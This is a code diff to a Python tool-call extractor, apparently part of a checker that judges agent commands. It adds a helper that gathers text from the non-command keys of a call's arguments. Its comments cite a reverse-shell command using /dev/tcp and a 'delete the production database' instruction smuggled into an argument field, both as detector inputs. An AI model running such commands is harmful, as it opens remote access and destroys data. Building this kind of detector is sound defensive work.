@@ -816,6 +816,22 @@ _ANY_WITH_JSON = lazy_compile(
     r"\s+(?:with|using)\s+(?:arguments\s+|args\s+|params\s+)?(?=\{)")
 
 
+def _other_keys_text(value: object, key: str = "") -> str:
+    """The string values of an arguments object outside its command and statement keys (COMMAND_KEYS,
+    SQL_KEYS), nested ones too, joined as clauses: words the call's object carries beside the command."""
+    if key.lower() in COMMAND_KEYS or key.lower() in SQL_KEYS:
+        return ""
+    if isinstance(value, str):
+        return value.strip()
+    if isinstance(value, dict):
+        found = (_other_keys_text(v, str(k)) for k, v in value.items())
+    elif isinstance(value, list):
+        found = (_other_keys_text(v) for v in value)
+    else:
+        return ""
+    return " ; ".join(text for text in found if text)
+
+
 def _run_arguments(work: str) -> tuple[ToolCall, int, int] | None:
     """The first call, named in words no other form reads, whose JSON arguments carry a command line or a
     SQL statement (COMMAND_KEYS, SQL_KEYS): the call and the span it takes up, or None."""
@@ -1042,9 +1058,12 @@ def extract(text: str, carried_out: bool = False) -> Extraction:
         if found_run is not None:
             # "exec on ci-mac-03 with {"cmd": "bash -i >& /dev/tcp/…"}": whatever the call is named, an
             # object handing it a command line or a statement is judged by what that line does
+            # (the other keys' text stays in the prose: `{"cmd": "ls", "after": "delete the production
+            # database"}` says what else is done, and the prose judge reads it)
             call, start, end = found_run
             ex.tool_calls.append(call)
-            work = work[:start] + " " + work[end:]
+            said = _other_keys_text(call.arguments)
+            work = work[:start] + (f" ; {said} ; " if said else " ") + work[end:]
 
     content = None if carried_out else _CONTENT_START.search(work)
     prose_tail = ""
